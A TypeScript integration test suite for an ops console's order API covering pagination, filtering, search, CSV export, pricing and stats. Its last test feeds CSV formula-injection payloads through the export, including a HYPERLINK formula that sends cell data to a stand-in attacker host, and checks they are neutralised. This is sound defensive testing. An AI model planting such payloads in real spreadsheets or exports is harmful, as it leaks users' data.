/**
 * The ops console's read routes against a real Postgres and Redis: a sale's orders in cursor
 * pages (every row exactly once, newest first, orders arriving mid-walk not mixed in), filtered
 * by status, searched by user id or order id; the CSV of them (every row, equal to Postgres,
 * over several batches, quoted where needed, no cell a spreadsheet reads as a formula); each
 * order with the price and currency it was accepted at, not its sale's now; bad parameters as
 * field errors; and every sale's stats in one request, where a sale whose read fails is
 * reported on its own.
 */
import { TestStack } from "./support/test-stack";
import { useStack } from "./support/use-stack";
import { TEST_ADMIN_TOKEN } from "./support/control-plane";
import { parseCsv } from "./support/csv";

const SALE = "orders-api";
const OTHER = "orders-api-other";
/** Two epochs (a rebuild between them), more rows than a CSV batch of 1000 twice over. */
const EPOCH_ONE = 1200;
const TOTAL = 2345;
const STATUSES = ["confirmed", "paid", "expired", "pending", "failed"] as const;
/** Shopper ids are printable ASCII: commas and quotes included. */
const ODD_USER = 'user,with "quotes"';

interface OrderRow {
  orderId: string;
  userId: string;
  quantity: number;
  price: number;
  currency: string;
  status: string;
  acceptedAt: string;
  paidAt: string | null;
}

async function get(path: string): Promise<{ status: number; headers: Headers; text: string; json: any }> {
  const res = await fetch(stack.controlPlane.url + path, { headers: { authorization: `Bearer ${TEST_ADMIN_TOKEN}` } });
  const text = await res.text();
  return { status: res.status, headers: res.headers, text, json: res.headers.get("content-type")?.includes("json") ? JSON.parse(text) : undefined };
}

/** The sale's price as created; its orders were accepted at others (the price changed twice). */
const SALE_PRICE = 199;
const priceOfEpoch = (epoch: number) => (epoch === 1 ? 150 : 120);

/** Inserts orders as the worker writes them: (sale, epoch, n) unique, user_units counting up per user; at the sale's price unless said. */
async function insertOrders(
  saleId: string,
  orders: { epoch: number; n: number; user: string; units: number; quantity: number; status: string; at: Date; price?: number }[],
): Promise<void> {
  const priced = orders.map((o) => ({ ...o, price: o.price ?? SALE_PRICE }));
  await stack.db.pool.query(
    `INSERT INTO orders (order_id, sale_id, order_no, epoch, user_id, user_units, quantity, status, accepted_at, status_changed_at, price, currency)
     SELECT $1 || '.' || e || '.' || n, $1, n, e, u, uu, q, s, a, CASE WHEN s IN ('paid', 'expired', 'failed') THEN a + interval '30 seconds' END, p, 'USD'
       FROM unnest($2::int[], $3::bigint[], $4::text[], $5::int[], $6::int[], $7::text[], $8::timestamptz[], $9::bigint[]) AS t(e, n, u, uu, q, s, a, p)`,
    [saleId, ...["epoch", "n", "user", "units", "quantity", "status", "at", "price"].map((k) => priced.map((o) => (o as Record<string, unknown>)[k]))],
  );
}

async function pgOrders(saleId: string, where = "", params: unknown[] = []): Promise<OrderRow[]> {
  const result = await stack.db.pool.query(
    `SELECT order_id, user_id, quantity, price, currency, status, accepted_at, status_changed_at FROM orders WHERE sale_id = $1 ${where} ORDER BY epoch, order_no`,
    [saleId, ...params],
  );
  return result.rows.map((r) => ({
    orderId: r.order_id,
    userId: r.user_id,
    quantity: r.quantity,
    price: Number(r.price),
    currency: r.currency,
    status: r.status,
    acceptedAt: r.accepted_at.toISOString(),
    paidAt: r.status === "paid" ? (r.status_changed_at as Date).toISOString() : null,
  }));
}

/** Every page of a walk, following nextCursor. */
async function walk(query: string): Promise<{ pages: OrderRow[][]; orders: OrderRow[] }> {
  const pages: OrderRow[][] = [];
  let cursor: string | null = null;
  do {
    const res = await get(`/admin/api/sales/${SALE}/orders?${query}${cursor === null ? "" : `&cursor=${encodeURIComponent(cursor)}`}`);
    expect(res.status).toBe(200);
    pages.push(res.json.orders);
    cursor = res.json.nextCursor;
  } while (cursor !== null);
  return { pages, orders: pages.flat() };
}

function asCsvRows(orders: OrderRow[]): string[][] {
  return orders.map((o) => [o.orderId, o.userId, String(o.quantity), String(o.price), o.currency, o.status, o.acceptedAt, o.paidAt ?? ""]);
}

const stack = useStack(new TestStack({ name: "control_plane_orders", gateway: false }), async () => {
  for (const id of [SALE, OTHER]) await stack.controlPlane.createSale({ id, price: SALE_PRICE, stock: 10_000, perUserLimit: 2 });

  const start = Date.parse("2030-01-01T12:00:00Z");
  await insertOrders(
    SALE,
    Array.from({ length: TOTAL }, (_, i) => {
      const n = i + 1;
      // Every 7th shopper buys twice: user 7k holds orders n and n+1.
      const user = n === 42 ? ODD_USER : `user-${n % 7 === 1 && n > 1 ? n - 1 : n}`;
      const epoch = n <= EPOCH_ONE ? 1 : 2;
      return { epoch, n, user, units: n % 7 === 1 && n > 1 ? 2 : 1, quantity: 1 + (n % 3), status: STATUSES[n % STATUSES.length]!, at: new Date(start + n * 3), price: priceOfEpoch(epoch) };
    }),
  );
  await insertOrders(OTHER, [{ epoch: 1, n: 1, user: "user-1", units: 1, quantity: 1, status: "confirmed", at: new Date(start) }]);
});

test("pages of the default size cover every order of the sale exactly once, newest first", async () => {
  const { pages, orders } = await walk("");
  expect(pages.slice(0, -1).every((p) => p.length === 50)).toBe(true);
  expect(pages).toHaveLength(Math.ceil(TOTAL / 50));
  expect(orders).toEqual((await pgOrders(SALE)).reverse());
  expect(new Set(orders.map((o) => o.orderId)).size).toBe(TOTAL);
});

test("the largest page is 500; orders accepted during a walk are not mixed in", async () => {
  const first = await get(`/admin/api/sales/${SALE}/orders?limit=500`);
  expect(first.json.orders).toHaveLength(500);
  const before = await pgOrders(SALE);
  await insertOrders(SALE, [{ epoch: 2, n: TOTAL + 1, user: "late-shopper", units: 1, quantity: 1, status: "confirmed", at: new Date() }]);
  try {
    const rest: OrderRow[] = [];
    let cursor: string | null = first.json.nextCursor;
    while (cursor !== null) {
      const page = await get(`/admin/api/sales/${SALE}/orders?limit=500&cursor=${cursor}`);
      rest.push(...page.json.orders);
      cursor = page.json.nextCursor;
    }
    expect([...first.json.orders, ...rest]).toEqual(before.reverse());
  } finally {
    await stack.db.pool.query("DELETE FROM orders WHERE user_id = 'late-shopper'");
  }
});

test.each(STATUSES)("filtered by status %s: exactly the orders with it", async (status) => {
  const { orders } = await walk(`status=${status}&limit=137`);
  expect(orders).toEqual((await pgOrders(SALE, "AND status = $2", [status])).reverse());
  expect(orders.length).toBeGreaterThan(400);
});

test("searched by user id (exact), by order id, with a status, and for nobody", async () => {
  const twice = await get(`/admin/api/sales/${SALE}/orders?q=user-14`);
  expect(twice.json.orders.map((o: OrderRow) => o.orderId)).toEqual([`${SALE}.1.15`, `${SALE}.1.14`]);
  expect(twice.json.nextCursor).toBeNull();

  const odd = await get(`/admin/api/sales/${SALE}/orders?q=${encodeURIComponent(ODD_USER)}`);
  expect(odd.json.orders).toEqual(await pgOrders(SALE, "AND user_id = $2", [ODD_USER]));

  const byId = await get(`/admin/api/sales/${SALE}/orders?q=${SALE}.2.2000`);
  expect(byId.json.orders).toEqual(await pgOrders(SALE, "AND order_id = $2", [`${SALE}.2.2000`]));

  const withStatus = await get(`/admin/api/sales/${SALE}/orders?q=user-14&status=failed`);
  expect(withStatus.json.orders.map((o: OrderRow) => o.orderId)).toEqual([`${SALE}.1.14`]);

  // Exact and per sale: a prefix, another sale's order id or an unknown id finds nothing.
  for (const q of ["user-", `${OTHER}.1.1`, "nobody"]) {
    expect((await get(`/admin/api/sales/${SALE}/orders?q=${q}`)).json.orders).toEqual([]);
  }
  // user-1 bought in both sales: each sale's search finds its own order.
  expect((await get(`/admin/api/sales/${OTHER}/orders?q=user-1`)).json.orders.map((o: OrderRow) => o.orderId)).toEqual([`${OTHER}.1.1`]);
});

test.each([
  ["an unknown status", "status=bogus", "status"],
  ["two statuses", "status=paid&status=expired", "status"],
  ["a limit of 0", "limit=0", "limit"],
  ["a limit over 500", "limit=501", "limit"],
  ["a limit in words", "limit=ten", "limit"],
  ["a made-up cursor", "cursor=garbage", "cursor"],
  ["a search of 201 characters", `q=${"x".repeat(201)}`, "q"],
])("%s is a 400 naming the parameter", async (_what, query, field) => {
  const res = await get(`/admin/api/sales/${SALE}/orders?${query}`);
  expect(res.status).toBe(400);
  expect(res.json).toMatchObject({ error: "bad_request", fields: [{ path: field, message: expect.any(String) }] });
});

test("an unknown sale's orders and CSV are a 404 sale_not_found", async () => {
  for (const path of ["/admin/api/sales/no-such-sale/orders", "/admin/api/sales/no-such-sale/orders.csv"]) {
    const res = await get(path);
    expect(res.status).toBe(404);
    expect(res.json.error).toBe("sale_not_found");
  }
});

test("the CSV holds every order, equal to Postgres, in the order of acceptance, streamed in batches", async () => {
  const res = await get(`/admin/api/sales/${SALE}/orders.csv`);
  expect(res.status).toBe(200);
  expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
  expect(res.headers.get("content-disposition")).toBe(`attachment; filename="${SALE}-orders.csv"`);
  // Streamed: no length known up front.
  expect(res.headers.get("content-length")).toBeNull();
  expect(res.headers.get("transfer-encoding")).toBe("chunked");

  const [header, ...rows] = parseCsv(res.text);
  expect(header).toEqual(["order_id", "user_id", "quantity", "price", "currency", "status", "accepted_at", "paid_at"]);
  expect(rows).toHaveLength(TOTAL);
  expect(rows).toEqual(asCsvRows(await pgOrders(SALE)));
  expect(res.text).toContain(`,"user,with ""quotes""",`);
  // Each order's own price, not the sale's now.
  expect(new Set(rows.map((r) => `${r[3]} ${r[4]}`))).toEqual(new Set(["150 USD", "120 USD"]));
});

test("orders show the price and currency they were accepted at, not their sale's now", async () => {
  const { orders } = await walk("limit=500");
  expect(orders.map((o) => `${o.price} ${o.currency}`)).toEqual(orders.map((o) => `${priceOfEpoch(Number(o.orderId.split(".")[1]))} USD`));
  expect((await get(`/admin/api/sales/${SALE}`)).json.price).toBe(SALE_PRICE);
});

test("the CSV takes the same filters", async () => {
  const paid = parseCsv((await get(`/admin/api/sales/${SALE}/orders.csv?status=paid`)).text).slice(1);
  expect(paid).toEqual(asCsvRows(await pgOrders(SALE, "AND status = 'paid'")));
  const one = parseCsv((await get(`/admin/api/sales/${SALE}/orders.csv?q=user-14`)).text).slice(1);
  expect(one.map((r) => r[0])).toEqual([`${SALE}.1.14`, `${SALE}.1.15`]);
  expect((await get(`/admin/api/sales/${SALE}/orders.csv?status=nope`)).status).toBe(400);
});

test("every sale's stats come in one request; a sale whose read fails is reported alone", async () => {
  const broken = "orders-api-broken";
  await stack.controlPlane.createSale({ id: broken, stock: 5, perUserLimit: 2 });
  // Units over Postgres' integer: the stats read of this sale fails in Postgres itself.
  await insertOrders(broken, [1, 2].map((n) => ({ epoch: 1, n, user: "whale", units: n, quantity: 2_147_483_647, status: "confirmed", at: new Date() })));

  const res = await get("/admin/api/sales-stats");
  expect(res.status).toBe(200);
  const byId = Object.fromEntries(res.json.sales.map((e: { id: string }) => [e.id, e]));
  expect(Object.keys(byId).sort()).toEqual([SALE, OTHER, broken].sort());
  expect(byId[broken]).toEqual({ id: broken, error: "unavailable", message: "Its live stats could not be read: Postgres refused the read (integer out of range)." });
  expect(byId[SALE].stats).toMatchObject({ unitsLeft: 10_000, ordersPersisted: TOTAL });
  expect(byId[OTHER].stats).toMatchObject({ unitsLeft: 10_000, ordersPersisted: 1 });
  // The same numbers as the sale's own read.
  expect(byId[SALE].stats).toEqual((await get(`/admin/api/sales/${SALE}`)).json.stats);
});

test("the CSV lets no cell start a formula (OWASP: =, +, -, @, tab, carriage return get a leading quote), quoted as RFC 4180 says", async () => {
  const sale = "orders-api-formulas";
  await stack.controlPlane.createSale({ id: sale, price: SALE_PRICE, stock: 100, perUserLimit: 1 });
  const users = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+x", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1", "plain=1", "a,=b"];
  await insertOrders(sale, users.map((user, i) => ({ epoch: 1, n: i + 1, user, units: 1, quantity: 1, status: "confirmed", at: new Date(Date.UTC(2030, 0, 1, 12, 0, i)) })));

  const res = await get(`/admin/api/sales/${sale}/orders.csv`);
  expect(res.status).toBe(200);
  const cells = parseCsv(res.text).slice(1).map((r) => r[1]);
  expect(cells).toEqual([`'=HYPERLINK("http://evil.example/?"&A1,"Click")`, "'+x", "'-2+3", "'@SUM(A1:A9)", "'\tcmd", "'\r=1+1", "plain=1", "a,=b"]);
  // As written: the quote inside the field, RFC 4180 quoting around it where needed.
  expect(res.text).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",`);
  expect(res.text).toContain(",'+x,");
  expect(res.text).toContain(`,"'\r=1+1",`);
  // The JSON list is data, not a spreadsheet: the ids as they are.
  expect((await get(`/admin/api/sales/${sale}/orders?limit=500`)).json.orders.map((o: OrderRow) => o.userId).reverse()).toEqual(users);
});
